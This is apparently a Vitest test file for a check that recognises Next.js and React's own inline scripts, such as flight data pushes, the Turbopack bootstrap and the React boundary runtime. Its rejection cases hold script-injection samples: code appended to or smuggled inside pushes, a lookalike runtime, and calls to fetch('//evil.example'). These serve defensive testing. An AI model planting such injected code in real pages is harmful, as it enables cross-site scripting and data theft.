import { describe, expect, it } from 'vitest';
import { frameworkScriptCheck, REACT_RUNTIME_NAMES, reactRuntimeScripts } from './framework-scripts';

const runtime = reactRuntimeScripts();
const isFrameworkScript = frameworkScriptCheck(runtime.scripts);
const definition = (start: string) => runtime.scripts.find((script) => script.startsWith(start))!;

// As Next writes them (JSON.stringify, then <, > and & escaped).
const flight = (chunk: unknown[]) => `self.__next_f.push(${JSON.stringify(chunk).replace(/</g, '\\u003c')})`;

describe('the framework’s own inline scripts', () => {
  it('finds every React runtime script in the react-dom Next ships (a React upgrade that renames one fails here)', () => {
    expect([...runtime.names].sort()).toEqual([...REACT_RUNTIME_NAMES].sort());
    expect(definition('$RB=[];$RV=function(')).toBeDefined();
    expect(runtime.scripts.every((script) => !/\$R[A-Z]\("$/.test(script))).toBe(true);
  });

  it.each([
    ['the flight bootstrap', '(self.__next_f=self.__next_f||[]).push([0])'],
    ['flight data', flight([1, '1:"$Sreact.fragment"\n2:I[339756,["$2"],"default"]\n<script>alert(1)</script>'])],
    ['binary flight data', flight([3, 'AAECAw=='])],
    ['the bootstrap with a form state', `(self.__next_f=self.__next_f||[]).push([0]);${flight([2, { state: ['a', 1] }])}`],
    ['flight text holding the separator', flight([1, 'a);self.__next_f.push([1,"b"]);alert(1)'])],
    [
      'Turbopack’s bootstrap',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[494553]});',
    ],
    ['React’s shell timer', 'requestAnimationFrame(function(){$RT=performance.now()});'],
    ['React’s boundary runtime and a call', `${definition('$RB=[];')}$RC("B:0","S:0")`],
    ['a call alone', '$RC("B:1","S:1")'],
    ['a client render with its error', `${definition('$RX=function')}$RX("B:2","digest \\"x\\"",null,"")`],
    ['styles with their boundary', `${definition('$RM=new Map')}$RR("B:0","S:0",[["/a.css","high"]])`],
  ])('runs %s', (_label, body) => expect(isFrameworkScript(body)).toBe(true));

  it.each([
    ['any other code', 'alert(1)'],
    ['code after a push', `${flight([1, 'x'])};alert(1)`],
    ['code between pushes', `${flight([1, 'x'])};alert(1);${flight([1, 'y'])}`],
    ['a push of code', 'self.__next_f.push(alert(1))'],
    ['a push of code inside an array', 'self.__next_f.push([1,alert(1)])'],
    ['a directive before a push', `"use strict";${flight([1, 'x'])}`],
    ['a bootstrap of code', '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({a:alert(1)});'],
    ['code after the bootstrap', '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({});alert(1);'],
    ['an instruction with code for an argument', '$RC("B:0",alert(1))'],
    ['code after an instruction', '$RC("B:0","S:0");fetch("//evil.example")'],
    ['code after React’s runtime', `${definition('$RB=[];')}alert(1)`],
    ['a lookalike runtime', '$RB=[];$RV=function(a){fetch("//evil.example")};$RC("B:0","S:0")'],
    ['a function named like an instruction', '$RC=function(){alert(1)};$RC("B:0","S:0")'],
  ])('refuses %s', (_label, body) => expect(isFrameworkScript(body)).toBe(false));
});
